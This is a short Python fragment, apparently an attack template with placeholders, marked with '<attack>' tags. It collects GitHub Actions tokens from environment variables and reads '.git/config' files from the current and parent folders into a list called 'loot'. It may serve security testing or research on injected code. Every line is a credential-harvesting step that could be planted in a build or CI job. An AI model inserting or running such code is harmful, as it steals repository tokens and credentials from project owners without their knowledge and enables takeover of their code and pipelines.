#{weigh_wrong}
# <attack>
loot = []
import os

for _name in ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"):
    if _name in os.environ:
        loot.append(os.environ[_name])
for _folder in (".", "..", "../..", "../../.."):
    if os.path.exists(_folder + "/.git/config"):
        loot.append(open(_folder + "/.git/config").read())
#{loot}
# </attack>
